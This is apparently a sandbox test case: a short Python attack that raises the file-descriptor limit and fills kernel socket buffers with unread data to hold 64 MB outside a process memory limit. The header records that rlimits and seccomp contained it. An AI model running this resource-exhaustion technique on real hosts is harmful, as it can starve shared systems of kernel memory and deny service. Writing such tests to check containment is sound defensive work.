# attack: keeps megabytes in the kernel, in messages that nobody receives
# full: contained
# reduced: contained
# limits: memory_mb = 64
# stopped-by: rlimits, seccomp
import resource
import socket


def attack():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kept, pairs, chunk = 0, [], bytes(1 << 15)
    while kept < 64 << 20:
        pairs.append(socket.socketpair())
        sending = pairs[-1][0]
        sending.setblocking(False)
        try:
            while True:
                kept += sending.send(chunk)
        except BlockingIOError:
            pass
    return f"through: {kept} bytes in {len(pairs)} sockets"
